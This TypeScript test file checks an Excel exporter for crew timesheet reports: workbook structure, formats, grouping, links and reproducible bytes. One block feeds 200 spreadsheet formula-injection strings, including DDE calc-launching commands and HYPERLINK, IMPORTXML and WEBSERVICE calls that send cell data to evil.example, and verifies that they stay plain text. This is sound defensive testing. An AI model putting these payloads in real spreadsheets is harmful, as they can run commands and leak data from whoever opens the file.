import { createHash } from 'node:crypto'
import { beforeAll, describe, expect, test } from 'vitest'
import {
  crewRows,
  layoutOf,
  type SheetRowOfDay,
  sheetColumns,
  sheetOrigin,
  sheetQuestion,
  workbookBytes,
} from './sheetFixture.ts'
import { parseXml, type ReadSheet, readWorkbook } from './workbookFixture.ts'

const groups = [
  { columnId: 'foreman', order: 'asc' },
  { columnId: 'date', order: 'desc' },
] as const

async function read(...question: Parameters<typeof sheetQuestion>) {
  const workbook = readWorkbook(await workbookBytes(sheetQuestion(...question)))
  const [sheet, about] = workbook.sheets
  return { ...workbook, sheet: sheet as ReadSheet, about: about as ReadSheet }
}

const [sample] = crewRows(1) as [SheetRowOfDay]

describe('a workbook read by another program', () => {
  test('has well-formed parts, each listed once', async () => {
    const { files } = await read(crewRows(20), { groups })
    for (const content of Object.values(files)) expect(() => parseXml(content)).not.toThrow()
    expect(Object.keys(files).toSorted()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'docProps/app.xml',
      'docProps/core.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/sharedStrings.xml',
      'xl/styles.xml',
      'xl/theme/theme1.xml',
      'xl/workbook.xml',
      'xl/worksheets/_rels/sheet1.xml.rels',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ])
  })

  test('has a frozen header with a filter, widths, and formatted values', async () => {
    const row = { ...sample, employee: 'Ana', date: '2026-06-15', start: '07:30:00', worked: 27_000_000, hours: 7.5 }
    const { sheet } = await read([{ ...row, foreman: 'Díaz', status: 'out', miles: 1.5, map: null, note: null }])
    expect(sheet.name).toBe('2026-06-15')
    expect(sheet.frozen).toEqual({ columns: 0, rows: 1 })
    expect(sheet.autoFilter).toBe('A1:J2')
    expect(sheet.widths).toHaveLength(11)
    expect(sheet.rows[0]?.cells.F).toMatchObject({ value: 'Worked duration', format: '@' })
    const cells = Object.entries(sheet.rows[1]?.cells ?? {}).map(([name, { value, format }]) => [name, value, format])
    expect(cells).toEqual([
      ['A', 46_188, 'mm-dd-yy'],
      ['B', 'Ana', '@'],
      ['C', 'Díaz', '@'],
      ['D', 'Clocked Out', '@'],
      ['E', 0.3125, 'h:mm AM/PM'],
      ['F', 0.3125, '[h]:mm'],
      ['G', 7.5, '0.00'],
      ['H', 1.5, 'General'],
      ['K', 27_000_000, '0'],
    ])
    expect(sheet.rows[2]?.cells.G).toMatchObject({ formula: 'SUBTOTAL(9,G2:G2)', value: 7.5, format: '0.00' })
  })

  test.each([
    ['en-US', '06:00:00+1', 1.25, 'h:mm AM/PM "+1 day"'],
    ['es-ES', '06:00:00+1', 1.25, 'h:mm "+1 día"'],
    ['en-US', '12:00:00+2', 2.5, 'h:mm AM/PM "+2 days"'],
    ['en-US', '23:30:00-1', '23:30:00 −1 day', 'h:mm AM/PM'],
  ])('shows in %s the date %s as a number', async (locale, start, value, format) => {
    const { sheet } = await read([{ ...sample, start }], {}, { locale })
    expect(sheet.rows[1]?.cells.E).toMatchObject({ value, format })
    expect(sheet.widths[4]).toBeGreaterThanOrEqual('12:00 PM +2 days'.length)
  })

  test('has groups as outline levels with a footer each, and expanded rows', async () => {
    const { sheet } = await read(crewRows(40), { groups })
    expect(sheet.outlineDepth).toBe(2)
    expect(sheet.summaryBelow).toBe(true)
    expect(new Set(sheet.rows.map(({ outlineLevel }) => outlineLevel))).toEqual(new Set([0, 1, 2]))
    expect(sheet.rows.some(({ isHidden, isCollapsed }) => isHidden || isCollapsed)).toBe(false)
    expect(sheet.rows.map(({ number }) => number)).toEqual(sheet.rows.map((_, index) => index + 1))
  })

  test('has collapsed groups, and marks what stays visible', async () => {
    const { sheet } = await read(crewRows(40), { groups: groups.slice(0, 1) }, { expandedOnly: new Set<string>() })
    const inSight = sheet.rows.filter(({ isHidden }) => !isHidden)
    expect(inSight.length).toBe(1 + 2 * inSight.filter(({ isCollapsed }) => isCollapsed).length + 1)
    expect(sheet.rows.filter(({ isHidden }) => isHidden).every(({ outlineLevel }) => outlineLevel === 1)).toBe(true)
  })

  test('has nine groups, of which Excel shows seven as levels', async () => {
    const columnIds = sheetColumns.map(({ id }) => id).slice(0, 9)
    const { sheet } = await read([sample], { groups: columnIds.map(columnId => ({ columnId, order: 'asc' })) })
    expect(sheet.outlineDepth).toBe(7)
    expect(Math.max(...sheet.rows.map(({ outlineLevel }) => outlineLevel))).toBe(7)
  })

  test('has working links', async () => {
    const address = 'https://www.google.com/maps/search/?api=1&query=1,-2'
    const { sheet } = await read([{ ...sample, map: address }])
    expect(sheet.rows[1]?.cells.I).toMatchObject({ value: address, link: address })
  })

  test('is mirrored for right-to-left languages', async () => {
    expect((await read([sample], {}, { isRightToLeft: true })).sheet.isRightToLeft).toBe(true)
  })

  test('keeps pinned columns in view', async () => {
    const columns = layoutOf().columns.map(column =>
      column.id === 'note' ? { ...column, pin: 'left' as const } : column,
    )
    const { sheet } = await read([sample], { columns })
    expect(sheet.frozen).toEqual({ columns: 1, rows: 1 })
    expect(sheet.rows[0]?.cells.A?.value).toBe('Note')
  })

  test('names the source of its numbers on a second sheet', async () => {
    const { about } = await read(crewRows(5), {
      groups: groups.slice(0, 1),
      sorts: [{ columnId: 'hours', order: 'desc' }],
      filters: [
        { columnId: 'date', operation: 'between', values: ['2026-06-01', '2026-06-30'] },
        { columnId: 'status', operation: 'anyOf', values: ['out', 'in', ''] },
      ],
    })
    expect(about.name).toBe('About')
    expect(about.rows.map(({ cells }) => [cells.A?.value, cells.B?.value])).toEqual([
      ['Report', 'Detail Report'],
      ['From', 46_174],
      ['To', 46_188],
      ['Filter', 'Date is between 2026-06-01 and 2026-06-30'],
      ['Filter', 'Last known event is Clocked Out, in, or (Blank)'],
      ['Grouped by', 'Foreman, ascending'],
      ['Sorted by', 'Hours, descending'],
      ['Template', 'Sandbox'],
      ['Business unit', 'North'],
      ['Rows', 5],
      ['Exported at (UTC)', 46_188 + (18 * 60 + 4) / 1440],
      ['Exported by', 'Ana Alvarez'],
      ['Data', 'Complete'],
      ['Totals', expect.stringContaining('rounded for display')],
      ['Durations', expect.stringContaining('Totals use the exact times')],
    ])
  })

  test('says that data is missing, and what was truncated', async () => {
    const question = sheetQuestion([{ ...sample, note: '😀'.repeat(20_000) }])
    const { sheets } = readWorkbook(await workbookBytes(question, { ...sheetOrigin, isComplete: false }))
    const result = sheets[1]?.rows.map(({ cells }) => cells.B?.value)
    expect(result).toContain("Incomplete: some data didn't load")
    expect(result).toContain('1 text was shortened. Excel allows 32,767 characters per cell.')
    const note = String(sheets[0]?.rows[1]?.cells.J?.value)
    expect(note.length).toBeLessThanOrEqual(32_767)
    expect(note.endsWith('😀…')).toBe(true)
  })

  test('has only a header without rows', async () => {
    const { sheet } = await read([])
    expect(sheet.rows).toHaveLength(1)
    expect(sheet.autoFilter).toBe('A1:J1')
  })
})

describe('text that looks like a formula', () => {
  const starts = [
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    ' =',
    '＝',
    "'=",
    '"=',
    '|',
    '%',
    ';=',
    ',=',
    '\u0000=',
    '=\u0001',
    '_x003D_',
    '<f>',
    '&#61;',
  ]
  const rests = [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"open")',
    'SUM(A1:A9)*(1+2)',
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    'DDE("cmd","/C calc","x")',
    'WEBSERVICE("https://evil.example")',
    '</v></c><c><f>1+1</f></c>',
    ']]><!--',
    'SUBTOTAL(9,A1:A9)',
  ]
  const injections = starts.flatMap(start => rests.map(rest => start + rest))

  test('stays text in every text column, group header, and the second sheet (200 cases)', async () => {
    expect(injections).toHaveLength(200)
    const rows = injections.map(
      (text, index): SheetRowOfDay => ({
        ...sample,
        id: String(index),
        employee: text,
        foreman: text,
        status: text,
        date: text,
        start: text,
        map: text,
        note: text,
      }),
    )
    const { sheet, about, files } = await read(rows, {
      groups: [{ columnId: 'foreman', order: 'asc' }],
      filters: [{ columnId: 'note', operation: 'notEquals', values: ['=1+1+1'] }],
    })
    const formulas = [...sheet.rows, ...about.rows].flatMap(({ cells }) =>
      Object.values(cells).flatMap(({ formula }) => formula ?? []),
    )
    expect(formulas.length).toBeGreaterThan(200)
    const own = /^(SUBTOTAL\([2-9],[A-Z]+\d+:[A-Z]+\d+\)|ROUND\(SUBTOTAL\(9,[A-Z]+\d+:[A-Z]+\d+\)\/60000,0\)\/1440)$/
    expect(formulas.filter(formula => !own.test(formula))).toEqual([])
    const xml = files['xl/worksheets/sheet1.xml'] ?? ''
    expect(xml).not.toMatch(/t="(?:str|inlineStr)"/)
    expect(xml.match(/<f>/g)).toHaveLength(formulas.length)
  })

  test('stays unchanged', async () => {
    const { sheet } = await read(injections.map((note, index) => ({ ...sample, id: String(index), note })))
    for (const [index, text] of injections.entries()) {
      const held = text.trim().replaceAll('\u0000', '').replaceAll('\u0001', '').replaceAll('\r', '\n')
      const cell = sheet.rows[index + 1]?.cells.J
      expect(cell, JSON.stringify(text)).toMatchObject({ value: held, formula: null, format: '@' })
    }
  })
})

describe('reproducible workbooks', () => {
  const hashOf = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')
  let here = ''
  beforeAll(async () => {
    here = hashOf(await workbookBytes(sheetQuestion(crewRows(300), { groups })))
  })

  test('have the same bytes for the same query', async () => {
    expect(hashOf(await workbookBytes(sheetQuestion(crewRows(300), { groups })))).toBe(here)
  })

  test.each(['Pacific/Kiritimati', 'Pacific/Pago_Pago', 'America/Chicago', 'Asia/Kabul', 'Africa/Casablanca', 'UTC'])(
    'have the same bytes in %s',
    async timeZone => {
      const before = process.env.TZ
      process.env.TZ = timeZone
      try {
        expect(Intl.DateTimeFormat().resolvedOptions().timeZone).toBe(timeZone)
        expect(hashOf(await workbookBytes(sheetQuestion(crewRows(300), { groups })))).toBe(here)
      } finally {
        if (before === undefined) delete process.env.TZ
        else process.env.TZ = before
      }
    },
  )
})
